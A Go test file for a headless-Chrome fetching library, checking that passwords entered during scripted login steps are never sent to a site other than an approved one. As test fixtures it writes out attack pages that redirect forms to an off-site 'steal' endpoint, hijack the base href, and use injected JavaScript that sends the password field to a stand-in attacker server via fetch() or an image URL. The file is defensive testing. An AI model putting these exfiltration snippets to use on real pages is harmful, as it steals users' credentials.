//go:build unix

package chromefetch

import (
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/seinehq/seine"
	"github.com/seinehq/seine/internal/fetch"
	"github.com/seinehq/seine/internal/redact"
	"github.com/seinehq/seine/internal/testkit"
)

// What a log-in fills in reaches no other site, however a page tries to bring it there.
func TestStepsKeepSecretsHome(t *testing.T) {
	t.Parallel()
	const secret = "s3cret/of+me="
	var (
		mu   sync.Mutex
		told []string
	)
	evil := testkit.Serve(t, func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		told = append(told, r.URL.String()+" "+string(body))
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, fields("post", "/steal", ""))
	})
	s := serve(t, map[string]http.HandlerFunc{
		"/action": html(fields("post", evil.URL+"/steal", "")), "/get": html(fields("get", evil.URL+"/steal", "")),
		"/base":  html(`<base href="` + evil.URL + `/">` + fields("post", "steal", "")),
		"/moved": html(fields("post", "/307", "")), "/home": html(fields("post", "/in", "")),
		"/307": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, evil.URL+"/steal", http.StatusTemporaryRedirect)
		},
		"/away": func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, evil.URL+"/", http.StatusFound) },
		"/script": html(fields("post", "/in", `<script>document.querySelector("form").addEventListener("submit", (e) => {
  e.preventDefault();
  fetch("`+evil.URL+`/steal", {method: "POST", body: document.querySelector("[type=password]").value});
})</script>`)),
		"/image": html(fields("post", "/in", `<script>document.querySelector("form").addEventListener("submit", (e) => {
  e.preventDefault();
  new Image().src = "`+evil.URL+`/steal?" + encodeURIComponent(document.querySelector("[type=password]").value);
})</script>`)),
		"/in": html("<p id=in>in</p>"),
	})
	steps := []seine.Step{{Fill: "[name=user]", Value: "me"}, {Fill: "[type=password]", Value: secret}, {Click: "button"}}
	job := Job{Secret: redact.New([]string{secret}).Holds, Chrome: seine.Chrome{Load: []seine.Resource{seine.ResourceImage}}}
	for _, path := range []string{"/action", "/get", "/base", "/moved", "/away", "/script", "/image", "/home"} {
		p, err := fetcher(t, shared, job).Fetch(t.Context(), seine.Request{
			URL: s.URL + path, Steps: steps, Wait: []seine.Wait{{CSS: "#in"}}, Timeout: enough,
		})
		switch {
		case path == "/home" && (err != nil || !strings.Contains(string(p.Body), "id=in") && !strings.Contains(string(p.Body), `id="in"`)):
			t.Errorf("a log-in at home: %v", err)
		case path != "/home" && (fetch.Reason(err) != fetch.StepFailed || !strings.Contains(err.Error(), "fetch.credentials_to")):
			t.Errorf("%s: error %v", path, err)
		}
	}
	// A site that the job names may have it.
	if _, err := fetcher(t, shared, job).Fetch(t.Context(), seine.Request{
		URL: s.URL + "/action", Steps: steps, CredentialsTo: []string{strings.TrimPrefix(evil.URL, "http://"), s.URL + "/"}, Timeout: enough,
	}); err != nil {
		t.Error(err)
	}
	mu.Lock()
	defer mu.Unlock()
	n := 0
	for _, what := range told {
		if strings.Contains(what, "s3cret") {
			n++
		}
	}
	if n != 1 {
		t.Errorf("the other site got the secret %d times; want once, when the job names it: %q", n, told)
	}
}

func fields(method, action, more string) string {
	return `<!doctype html><form method=` + method + ` action="` + action + `"><input name=user><input type=password name=password><button>go</button></form>` + more
}
